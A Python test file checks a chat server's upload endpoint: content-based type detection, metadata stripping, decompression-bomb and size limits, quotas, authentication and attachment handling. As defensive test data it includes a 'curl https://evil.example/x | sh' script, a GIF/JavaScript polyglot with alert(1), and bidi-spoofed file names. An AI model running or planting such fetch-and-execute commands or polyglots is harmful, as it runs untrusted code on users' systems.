"""Uploads against a real server, on SQLite and on PostgreSQL (docs/api.md, "Uploads";
docs/protocol.md, "Attachments"): POST /upload, say with attachments, GET /files/."""

from __future__ import annotations

import asyncio
import io
import json
import struct
import zlib
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from PIL import Image
from tornado.httpclient import AsyncHTTPClient, HTTPRequest, HTTPResponse

from chatd.durations import duration_text
from chatd.store.schema import now_ms
from tests.conftest import until
from tests.rawhttp import RawHTTP, request, unframed
from tests.stores import KINDS
from tests.webapp import WebApp

SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(200)


@pytest.fixture(params=KINDS)
def config_overrides(request: pytest.FixtureRequest, tmp_path: Path, web_app: WebApp) -> dict[str, Any]:
    database = request.getfixturevalue("postgres_url") if request.param == "postgres" else str(tmp_path / "chatd.db")
    return {"database": database, "app_tokens": {"secret": web_app.secret}}


def png(width: int = 64, height: int = 32, color: tuple = (200, 30, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def photo_with_gps() -> bytes:
    """A 600 × 300 JPEG whose EXIF says: turn 90° clockwise to show (orientation 6), taken at a GPS
    position, by a camera with a serial number; with an XMP packet and a comment."""
    image = Image.new("RGB", (600, 300), (20, 120, 220))
    image.paste((250, 250, 0), (0, 0, 60, 300))  # a yellow band on the left: on top once turned
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0xA431] = "SERIAL-12345"
    exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), xmp=b"<x:xmpmeta>GPSLatitude 52</x:xmpmeta>", comment=b"home")
    return out.getvalue()


def metadata_left(data: bytes) -> list[str]:
    """What of photo_with_gps's metadata an image file still holds (Pillow's reading, then its bytes);
    [] when it was all taken out."""
    image = Image.open(io.BytesIO(data))
    exif = image.getexif()
    left = [key for key in ("exif", "xmp", "comment") if key in image.info]
    if exif:
        left.append("EXIF tags")
    if exif.get_ifd(0x8825):
        left.append("GPS position")
    return left + [mark.decode() for mark in (b"SERIAL-12345", b"GPSLatitude", b"home") if mark in data]


async def post(server: Any, token: str | None, data: bytes, query: str,
               headers: dict[str, str] | None = None) -> HTTPResponse:
    """POST /upload?``query`` (as sent: percent-encoded already); its answer, JSON."""
    sent = {**({"Authorization": f"Bearer {token}"} if token else {}), **(headers or {})}
    request = HTTPRequest(f"http://127.0.0.1:{server.port}/upload?{query}", method="POST",
                          headers=sent, body=data, request_timeout=30)
    response = await AsyncHTTPClient().fetch(request, raise_error=False)
    assert response.headers["Content-Type"].startswith("application/json"), response.body
    return response


async def upload(server: Any, token: str | None, data: bytes, name: str = "file",
                 headers: dict[str, str] | None = None) -> tuple[int, dict[str, Any]]:
    response = await post(server, token, data, f"name={quote(name)}", headers)
    return response.code, json.loads(response.body)


async def fetch(server: Any, url: str, method: str = "GET", **headers: str) -> HTTPResponse:
    return await AsyncHTTPClient().fetch(HTTPRequest(f"http://127.0.0.1:{server.port}{url}", method, headers,
                                                     allow_nonstandard_methods=True), raise_error=False)


async def test_the_kind_is_told_by_content_not_by_name_or_header(server, user):
    alice = await user("alice")
    token = alice.welcome["token"]

    status, ref = await upload(server, token, png(), "holiday.exe", {"Content-Type": "application/x-msdownload"})
    assert status == 201, ref
    assert (ref["type"], ref["name"], ref["width"], ref["height"]) == ("image/png", "holiday.png", 64, 32)
    served = await fetch(server, ref["url"])
    assert served.headers["Content-Type"] == "image/png"
    assert served.headers["Content-Disposition"].startswith("inline;")
    assert Image.open(io.BytesIO(served.body)).format == "PNG"

    status, ref = await upload(server, token, SCRIPT, "cute-cat.png", {"Content-Type": "image/png"})
    assert status == 201, ref
    assert (ref["type"], ref["name"]) == ("text/plain", "cute-cat.txt")
    assert "width" not in ref and "thumb" not in ref
    served = await fetch(server, ref["url"])
    assert served.body == SCRIPT
    assert served.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert served.headers["Content-Disposition"].startswith("attachment;")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"

    # The name loses what shows nothing or changes what is shown; with nothing left to read, it is "file".
    for name, safe in [("read\u200bme\u202e.txt", "readme.txt"), ("\u0301\u0301 .txt", "file.txt")]:
        status, ref = await upload(server, token, SCRIPT, name)
        assert (status, ref["name"]) == (201, safe)
        assert (await fetch(server, ref["url"])).headers["Content-Disposition"].endswith(f"''{safe}")

    status, body = await upload(server, token, ELF, "tool.png")
    assert (status, body["error"]["code"]) == (415, "unsupported_type")
    server.chat.config.uploads.types = ["image/png"]  # live: text is no longer accepted
    status, body = await upload(server, token, SCRIPT, "notes.txt")
    assert (status, body["error"]["code"], body["error"]["accepted"]) == (415, "unsupported_type", ["image/png"])
    status, body = await upload(server, token, b"\xff\xd8\xff\xe0 not really a jpeg", "x.jpg")
    assert (status, body["error"]["code"]) == (415, "unsupported_type")  # a JPEG start, JPEG not allowed
    server.chat.config.uploads.types = ["image/jpeg", "image/gif"]
    status, body = await upload(server, token, b"\xff\xd8\xff\xe0 not really a jpeg", "x.jpg")
    assert (status, body["error"]) == (422, {"code": "bad_image", "message": "the file is not a valid JPEG image",
                                             "format": "JPEG"})
    # A script that starts like a GIF: refused in words, nothing of Python's own in them.
    status, body = await upload(server, token, b"GIF89a/*" + bytes(10) + b"*/=alert(1);//", "x.gif")
    assert (status, body["error"]) == (422, {"code": "bad_image", "message": "the file is not a valid GIF image",
                                             "format": "GIF"})


async def test_an_image_loses_its_metadata_is_turned_upright_and_thumbnailed(server, user):
    alice = await user("alice")
    status, ref = await upload(server, alice.welcome["token"], photo_with_gps(), "IMG_0001.JPG")
    assert status == 201, ref
    assert (ref["type"], ref["name"], ref["width"], ref["height"]) == ("image/jpeg", "IMG_0001.JPG", 300, 600)
    served = await fetch(server, ref["url"])
    assert served.code == 200 and served.headers["Content-Type"] == "image/jpeg"
    stored = Image.open(io.BytesIO(served.body))
    assert stored.size == (300, 600)
    assert metadata_left(served.body) == []
    r, g, b = stored.convert("RGB").getpixel((150, 10))
    assert r > 200 and g > 200 and b < 80  # the yellow band, on top: the orientation was applied
    thumb = await fetch(server, ref["thumb"])
    assert thumb.headers["Content-Type"] == "image/webp"
    assert Image.open(io.BytesIO(thumb.body)).size == (200, 400)
    # Immutable, and revalidated by its ETag.
    assert "immutable" in served.headers["Cache-Control"]
    again = await fetch(server, ref["url"], **{"If-None-Match": served.headers["ETag"]})
    assert again.code == 304 and not again.body


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header claiming ``width`` × ``height`` pixels, with one compressed row of data: what a
    decompression bomb starts with."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(width + 1)))
            + chunk(b"IEND", b""))


async def test_a_decompression_bomb_is_refused_from_its_header(server, user):
    token = (await user("alice")).welcome["token"]
    # 400 million pixels: past what Pillow itself refuses to open.
    status, body = await upload(server, token, png_claiming(20_000, 20_000), "bomb.png")
    assert (status, body["error"]["code"]) == (413, "image_too_large")
    # Past uploads.max_pixels, though Pillow would open it.
    server.chat.config.uploads.max_pixels = 1_000_000
    status, body = await upload(server, token, png_claiming(2_000, 1_000), "big.png")
    assert (status, body["error"]["code"]) == (413, "image_too_large")
    assert body["error"]["message"] == "the image is 2000 × 1000 pixels; at most 1000000 pixels are accepted"
    assert {k: body["error"][k] for k in ("width", "height", "frames", "limit")} == {
        "width": 2000, "height": 1000, "frames": 1, "limit": 1_000_000}, "the message's detail as fields"
    status, body = await upload(server, token, png(1_000, 1_000), "fits.png")
    assert status == 201, body


async def raw_upload(server: Any, token: str, framing: str, body: bytes,
                     method: str = "POST") -> tuple[int, dict[str, Any] | None]:
    """``method`` /upload over a bare socket: ``framing`` (a Content-Length or Transfer-Encoding
    header) and as much of the body as ``body`` holds, the answer read without sending the rest."""
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    try:
        writer.write(f"{method} /upload?name=big.bin HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
                     f"{framing}\r\n\r\n".encode() + body)
        await writer.drain()
        async with asyncio.timeout(10):
            head = await reader.readuntil(b"\r\n\r\n")
        lines = head.split(b"\r\n")
        length = [int(line.split(b":")[1]) for line in lines if line.lower().startswith(b"content-length")]
        return int(lines[0].split(b" ")[1]), json.loads(await reader.readexactly(length[0])) if length else None
    finally:
        writer.close()


def chunked(*sizes: int) -> bytes:
    """A chunked body's first chunks, of ``sizes`` bytes, not ended."""
    return b"".join(b"%x\r\n" % size + b"a" * size + b"\r\n" for size in sizes)


async def test_a_body_over_the_cap_is_refused_before_it_is_read(server, user):
    alice = await user("alice")
    token = alice.welcome["token"]
    server.chat.config.uploads.max_bytes = 4096
    too_large = (413, {"error": {"code": "file_too_large",
                                 "message": "the file is more than 4096 bytes; at most 4096 are accepted",
                                 "limit": 4096}})
    # A claimed 2 GiB: answered at once, with only a little of the body sent.
    status, body = await raw_upload(server, token, f"Content-Length: {2 << 30}", bytes(1000))
    assert (status, body["error"]["code"]) == (413, "file_too_large")
    assert body["error"]["message"] == f"the file is {2 << 30} bytes; at most 4096 are accepted"
    assert (body["error"]["size"], body["error"]["limit"]) == (2 << 30, 4096)
    # Chunked, no length said: refused alike once it passes the cap, whether one chunk is larger
    # or small chunks add up to more.
    assert await raw_upload(server, token, "Transfer-Encoding: chunked", chunked(8000)) == too_large
    assert await raw_upload(server, token, "Transfer-Encoding: chunked", chunked(1000, 1000, 1000, 1000, 97)) \
        == too_large
    assert (await raw_upload(server, token, "Transfer-Encoding: chunked", chunked(1000, 3096, 0)))[0] == 201
    status, body = await upload(server, alice.welcome["token"], bytes(5000), "big.bin")
    assert (status, body["error"]["code"]) == (413, "file_too_large")
    status, body = await upload(server, alice.welcome["token"], b"a" * 4096, "fits.txt")
    assert status == 201, body


async def test_another_method_is_refused_whatever_the_size_of_its_body(server, user):
    # bb21: a PUT over the cap was told its file is too large, as if a POST would have been taken.
    token = (await user("alice")).welcome["token"]
    server.chat.config.uploads.max_bytes = 4096
    wrong_method = (405, {"error": {"code": "method_not_allowed", "message": "send the file with POST /upload"}})
    for method in ("PUT", "PATCH", "DELETE"):
        assert await raw_upload(server, token, f"Content-Length: {2 << 30}", bytes(1000), method) == wrong_method
        assert await raw_upload(server, token, "Transfer-Encoding: chunked", chunked(8000), method) == wrong_method


async def test_a_file_sent_without_a_content_length_is_told_so_not_called_empty(server, user):
    # bb21: an HTTP/1.0 POST of a file without Content-Length was told "the file is empty". RFC
    # 9112 §6.3: without Content-Length or Transfer-Encoding a request's body has length zero.
    token = (await user("alice")).welcome["token"]
    for version, body, said in [
        ("HTTP/1.0", b"notes", "the request has no body: it has no Content-Length (HTTP/1.0 has no other way to "
                               "send one)"),
        ("HTTP/1.1", b"", "the request has no body: it has neither a Content-Length nor Transfer-Encoding: chunked"),
    ]:
        http = await RawHTTP.open(server.port)
        try:
            http.send(unframed("POST", "/upload?name=notes.txt", version, body, Authorization=f"Bearer {token}"))
            answer = await http.answer()
            assert (answer.status, json.loads(answer.body)["error"]) == (400, {
                "code": "bad_request", "message": f"{said}; send the file as the body"}), version
        finally:
            http.close()
    assert (await raw_upload(server, token, "Content-Length: 0", b""))[1]["error"]["message"] == "the file is empty"


async def test_a_refusal_before_the_body_closes_only_a_connection_with_a_body_to_skip_and_says_so(server, user):
    # chatd.web.early: a request pipelined behind a refusal is answered, or the refusal says Connection: close.
    token = (await user("alice")).welcome["token"]
    server.chat.config.uploads.max_bytes = 4096
    http, other = await RawHTTP.open(server.port), await RawHTTP.open(server.port)
    try:
        http.send(request("POST", "/upload", b"") + request("GET", "/healthz"))  # no token, no body
        answer = await http.answer()
        assert (answer.status, json.loads(answer.body)["error"]["code"]) == (401, "bad_token")
        assert "connection" not in answer.headers
        assert (await http.answer()).status == 200
        http.send(request("POST", "/upload", png()) + request("GET", "/healthz"))  # no token, a body
        answer = await http.answer()
        assert (answer.status, answer.headers["connection"]) == (401, "close")
        assert await http.ended()
        other.send(request("POST", "/upload", Authorization=f"Bearer {token}", Transfer_Encoding="chunked")
                   + chunked(8000))  # past the cap, found as the body comes
        answer = await other.answer()
        assert (answer.status, answer.headers["connection"]) == (413, "close")
        assert await other.ended()
    finally:
        http.close()
        other.close()


async def test_the_quota_and_the_rate_are_per_user(server, user):
    alice, bob = await user("alice"), await user("bob")
    server.chat.config.uploads.quota_bytes = 5000
    assert (await upload(server, alice.welcome["token"], b"a" * 3000, "one.txt"))[0] == 201
    status, body = await upload(server, alice.welcome["token"], b"b" * 3000, "two.txt")
    assert (status, body["error"]["code"]) == (413, "quota_exceeded")
    assert "3000 of your 5000 bytes" in body["error"]["message"]
    assert (body["error"]["used"], body["error"]["quota"]) == (3000, 5000)
    assert (await upload(server, bob.welcome["token"], b"c" * 3000, "bobs.txt"))[0] == 201
    server.chat.config.uploads.burst = 1
    server.chat.config.uploads.per_minute = 6
    assert (await upload(server, bob.welcome["token"], b"d", "a.txt"))[0] == 201
    refused = await post(server, bob.welcome["token"], b"e", "name=b.txt")
    wait = int(refused.headers["Retry-After"])
    assert refused.code == 429 and 1 <= wait <= 10  # one upload every 10 seconds
    said = json.loads(refused.body)["error"]
    assert said == {"code": "rate_limited", "message": f"too many uploads; try again in {duration_text(wait)}",
                    "retry_ms": said["retry_ms"], "limit": "uploads"}  # the fields a client words it from
    assert wait - 1 < said["retry_ms"] / 1000 <= wait


async def test_two_nodes_never_pass_the_quota_together(server, user):
    """Another node's upload of the same user, not committed yet, holding the user's lock: this
    node's upload waits for it and then counts it (PostgreSQL; SQLite has one writer)."""
    if not server.config.database.startswith("postgresql"):
        pytest.skip("one SQLite writer stores one upload at a time")
    import psycopg

    from chatd.store.postgres import events_lock

    alice = await user("alice")
    server.chat.config.uploads.quota_bytes = 5000
    with psycopg.connect(server.config.database) as other_node:
        other_node.execute("SELECT pg_advisory_xact_lock(%s)", (events_lock(alice.welcome["user"]["id"]),))
        other_node.execute("INSERT INTO upload (id, owner_id, name, type, size, sha256, created) "
                           "VALUES (%s, %s, 'held.txt', 'text/plain', 3000, '', 0)",
                           ("H" * 22, alice.welcome["user"]["id"]))
        sending = asyncio.ensure_future(upload(server, alice.welcome["token"], b"b" * 3000, "two.txt"))

        def waiting() -> bool:
            return sending.done() or other_node.execute(
                "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND NOT granted").fetchone()[0] > 0

        await until(waiting, what="the upload waits for the other node's")
        other_node.commit()
    status, body = await sending
    assert (status, body["error"]["code"]) == (413, "quota_exceeded"), body


async def test_a_malformed_request_is_told_what_is_wrong_with_it(server, user):
    token = (await user("alice")).welcome["token"]
    refused = await post(server, token, b"notes", "name=%ff%fe.txt")
    assert (refused.code, json.loads(refused.body)["error"]) == (400, {
        "code": "bad_request", "message": "the name (?name=) must be UTF-8, percent-encoded"})
    refused = await post(server, token, b"notes", "name=a.txt&name=b.txt")
    assert (refused.code, json.loads(refused.body)["error"]) == (400, {
        "code": "bad_request", "message": "the name (?name=) is given 2 times; give it once"})
    for method in ("GET", "PUT"):
        refused = await fetch(server, "/upload", method)
        assert (refused.code, json.loads(refused.body)["error"]) == (405, {
            "code": "method_not_allowed", "message": "send the file with POST /upload"}), method
        assert refused.headers["Allow"] == "POST"


async def test_a_file_refused_is_refused_in_json_as_every_upload_answer(server, user):
    alice = await user("alice")
    _, notes = await upload(server, alice.welcome["token"], b"notes", "notes.txt")
    missing = notes["url"].replace(notes["id"], "A" * 22)
    for url, status, error in [
        (missing, 404, {"code": "not_found", "message": "there is no such file: its message was deleted, it was "
                                                        "never sent and was purged, or the address is wrong"}),
        (notes["url"].rsplit("/", 1)[0] + "/thumb", 404, {"code": "not_found",
                                                          "message": "the file has no thumbnail: it is no image "
                                                                     "larger than a thumbnail"}),
        ("/files/too-short/notes.txt", 404, {"code": "not_found", "message": "there is no such file: its "
                                             "message was deleted, it was never sent and was purged, or the "
                                             "address is wrong"}),
        (notes["url"].rsplit("/", 1)[0] + "/%ff.txt", 400, {"code": "bad_request",
                                                           "message": "the address must be UTF-8, percent-encoded"}),
    ]:
        answer = await fetch(server, url)
        assert answer.headers["Content-Type"] == "application/json; charset=utf-8", url
        assert (answer.code, json.loads(answer.body)["error"]) == (status, error), url
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    answer = await fetch(server, notes["url"], "POST")
    assert (answer.code, json.loads(answer.body)["error"]["code"]) == (405, "method_not_allowed")
    assert (await fetch(server, missing, "HEAD")).code == 404


async def test_only_a_valid_token_of_a_user_not_banned_uploads(server, user):
    status, body = await upload(server, None, png())
    assert (status, body["error"]["code"]) == (401, "bad_token")
    status, body = await upload(server, "not-a-token", png())
    assert (status, body["error"]["code"]) == (401, "bad_token")
    mallory = await user("mallory")
    await server.chat.moderation.ban_user(_admin(), mallory.welcome["user"]["id"], None, "spam")
    status, body = await upload(server, mallory.welcome["token"], png())
    assert (status, body["error"]["code"]) == (403, "banned")
    assert (body["error"]["reason"], body["error"]["until"]) == ("spam", None), "why and until when, as fields"


def _admin():
    from chatd.audit import Actor

    return Actor("admin", 1, "root", frozenset({"admin"}))


async def test_attachments_are_the_senders_own_unattached_uploads(server, user):
    alice, bob = await user("alice", "lobby"), await user("bob", "lobby")
    _, photo = await upload(server, alice.welcome["token"], photo_with_gps(), "a.jpg")
    _, notes = await upload(server, alice.welcome["token"], SCRIPT, "notes.txt")
    _, bobs = await upload(server, bob.welcome["token"], png(), "b.png")

    ack = await alice.say("lobby", "", attachments=[photo["id"], notes["id"]])
    assert ack["type"] == "ack", ack  # a message with files may have no text
    live = await bob.expect("message", id=ack["id"])
    assert live["attachments"] == [photo, notes]
    assert live["attachments"][0]["thumb"] == f"/files/{photo['id']}/thumb"

    refusals = [([bobs["id"]], "bad_attachment"),  # another user's
                ([photo["id"]], "bad_attachment"),  # attached already
                (["A" * 22], "bad_attachment"),  # no such upload
                (["x"], "bad_frame"), ([notes["id"]] * 2, "bad_frame"), ([bobs["id"]] * 11, "bad_attachment")]
    for ids, code in refusals:
        answer = await alice.say("lobby", "look", attachments=ids)
        assert answer["code"] == code, (ids, answer)
    assert (await alice.say("lobby", " "))["code"] == "empty_text"
    # Nothing of a refused say was kept: bob's upload is still his to send.
    assert (await bob.say("lobby", "mine", attachments=[bobs["id"]]))["type"] == "ack"

    history = await bob.request("history", room="lobby")
    shown = {m["id"]: m.get("attachments") for m in history["messages"]}
    assert shown[ack["id"]] == [photo, notes]
    carol = await user("carol")  # a resume from before the message replays it with its files
    joined = await carol.request("join", room="lobby", since=ack["id"] - 1)
    assert joined["messages"][0]["attachments"] == [photo, notes]


async def test_a_deleted_message_deletes_its_files(server, user, connect, web_app):
    alice = await user("alice", "lobby")
    mod = await (await connect()).enter("lobby", app_token=web_app.token("m1", name="mod", roles=["moderator"]))
    _, photo = await upload(server, alice.welcome["token"], png(900, 600), "p.png")
    ack = await alice.say("lobby", "see", attachments=[photo["id"]])
    assert (await fetch(server, photo["thumb"])).code == 200
    assert (await mod.request("delete", id=ack["id"]))["type"] == "done"
    assert (await fetch(server, photo["url"])).code == 404
    assert (await fetch(server, photo["thumb"])).code == 404
    history = await alice.request("history", room="lobby")
    assert "attachments" not in next(m for m in history["messages"] if m["id"] == ack["id"])

    # Retention: a message purged takes its file along; an upload never sent is purged after a day.
    _, kept = await upload(server, alice.welcome["token"], b"old notes", "old.txt")
    await alice.say("lobby", "old", attachments=[kept["id"]])
    _, loose = await upload(server, alice.welcome["token"], b"never sent", "loose.txt")
    _, fresh = await upload(server, alice.welcome["token"], b"just now", "fresh.txt")
    store = server.store
    await store.writer.run(lambda: store.db.execute_sql(store._q("UPDATE upload SET created = ? WHERE id = ?"),
                                                        (now_ms() - 25 * 3_600_000, loose["id"])))
    await store.writer.run(lambda: store.db.execute_sql("UPDATE message SET ts = 0"))
    server.chat.config.history.retention_days = 1
    await server.chat.retention.purge(_admin())
    for gone in (kept, loose):
        assert (await fetch(server, gone["url"])).code == 404
    assert (await fetch(server, fresh["url"])).body == b"just now"
    count = await store.read(lambda: store.db.execute_sql("SELECT count(*) FROM upload_chunk").fetchone()[0])
    assert count == 1  # fresh.txt's alone

    # A deleted user: its files go, sent or not.
    _, sent = await upload(server, alice.welcome["token"], b"sent", "sent.txt")
    await alice.say("lobby", "", attachments=[sent["id"]])
    await server.chat.user_care.delete(_admin(), alice.welcome["user"]["id"])
    for gone in (sent, fresh):
        assert (await fetch(server, gone["url"])).code == 404


async def test_every_node_serves_every_file(two_nodes):
    a, b = two_nodes.nodes
    alice, bob = await two_nodes.alice_and_bob()
    big = bytes(range(256)) * 4096 + b"\n"  # 1 MiB and a byte: five chunks
    big = big.replace(b"\x00", b"a")
    status, ref = await upload(a, alice.welcome["token"], b"%PDF-1.4\n" + big, "report.pdf")
    assert status == 201, ref
    ack = await alice.say("lobby", "the report", attachments=[ref["id"]])
    message = await bob.expect("message", id=ack["id"])
    served = await fetch(b, message["attachments"][0]["url"])
    assert served.code == 200 and served.body == b"%PDF-1.4\n" + big
    assert served.headers["Content-Disposition"] == "attachment; filename=\"report.pdf\"; filename*=UTF-8''report.pdf"


async def test_a_database_from_before_uploads_opens_with_its_messages_and_takes_files(tmp_path, monkeypatch):
    from chatd.store import Draft
    from tests.stores import migrations_until, new_user, opened, save, set_back

    before = migrations_until(monkeypatch, "_v17_uploads")
    path = str(tmp_path / "chatd.db")
    store = opened(path)
    alice = await new_user(store, "alice")
    room = await store.create_room("lobby", "")
    old = await save(store, Draft(alice, "alice", "from before", room_id=room, room_name="lobby"))
    store.close()
    set_back(path, before, "DROP TABLE upload_chunk", "DROP TABLE upload",
             "ALTER TABLE message DROP COLUMN attachments")
    store = opened(path)
    try:
        page = await store.room_history(room, before=None, after=None, limit=10)
        assert [(r.id, r.text, r.attachments) for r in page.rows] == [(old.row.id, "from before", None)]
        row = await store.uploads.save(alice, "a.txt", "text/plain", b"hello", None, None, None, 0)
        stored = await save(store, Draft(alice, "alice", "", room_id=room, room_name="lobby", attachments=(row.id,)))
        assert json.loads(stored.row.attachments)[0]["id"] == row.id
    finally:
        store.close()


async def test_the_page_may_show_images_of_the_configured_hosts_only(server, user):
    page = await fetch(server, "/")
    policy = page.headers["Content-Security-Policy"]
    assert "img-src 'self' data:;" in policy  # no other host by default
    assert "image_hosts" not in (await user("alice")).welcome
    server.chat.config.page.image_hosts = ["images.example.com"]
    server.chat.config.identity.avatar_hosts = ["avatars.example.com"]
    policy = (await fetch(server, "/")).headers["Content-Security-Policy"]
    assert "img-src 'self' data: avatars.example.com images.example.com;" in policy
    assert (await user("bob")).welcome["image_hosts"] == ["images.example.com"]
